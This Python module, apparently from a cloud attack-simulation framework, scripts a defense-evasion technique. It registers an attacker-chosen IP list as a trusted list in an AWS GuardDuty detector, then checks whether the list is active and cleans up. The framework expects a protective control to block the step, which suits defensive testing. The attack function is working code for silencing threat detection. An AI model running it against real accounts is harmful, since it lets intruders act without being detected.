"""Put the attacker's own addresses on GuardDuty's list of trusted ones.

GuardDuty makes no findings for what comes from there, and the detector stays on.
"""

from bastide.attack.stage import Stage
from bastide.attack.technique import NotPlayable, Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="GuardDuty trusts the attacker's addresses",
    mitre=("T1562.001",),
    tactic="defense-evasion",
    detectors=("GuardDuty DefenseEvasion:IAMUser/AnomalousBehavior",),
    expected=Prevented("guardduty-protect"),
    where="audit",
    source='Amazon GuardDuty User Guide, "Customizing threat detection with entity lists and IP address lists"',
)


def prepare(stage: Stage) -> Scene:
    """The administrator's detector, and a list of addresses in a bucket."""
    account = stage.accounts["audit"]
    found = stage.owner(account).client("guardduty").list_detectors()["DetectorIds"]
    if not found:
        raise NotPlayable("the audit account has no GuardDuty detector")
    bucket = stage.bucket("addresses", account=account)
    stage.owner(account).client("s3").put_object(Bucket=bucket, Key="trusted.txt", Body=b"198.51.100.7\n")
    return {"account": account, "detector": found[0], "bucket": bucket, "list": stage.name("office")}


def attack(stage: Stage, scene: Scene) -> None:
    """Activate the list."""
    stage.attacker(scene["account"]).client("guardduty").create_ip_set(
        DetectorId=scene["detector"],
        Name=scene["list"],
        Format="TXT",
        Location=f"s3://{scene['bucket']}/trusted.txt",
        Activate=True,
    )


def _ids(stage: Stage, scene: Scene) -> list[str]:
    guardduty = stage.owner(scene["account"]).client("guardduty")
    return list(guardduty.list_ip_sets(DetectorId=scene["detector"])["IpSetIds"])


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The detector has an active list of this name."""
    guardduty = stage.owner(scene["account"]).client("guardduty")
    found = [guardduty.get_ip_set(DetectorId=scene["detector"], IpSetId=id) for id in _ids(stage, scene)]
    return any(one["Name"] == scene["list"] and one["Status"] == "ACTIVE" for one in found)


def clean_up(stage: Stage, scene: Scene) -> None:
    """Delete the list and its bucket."""
    guardduty = stage.owner(scene["account"]).client("guardduty")
    for id in _ids(stage, scene):
        if guardduty.get_ip_set(DetectorId=scene["detector"], IpSetId=id)["Name"] == scene["list"]:
            guardduty.delete_ip_set(DetectorId=scene["detector"], IpSetId=id)
    stage.drop_bucket(scene["bucket"], account=scene["account"])
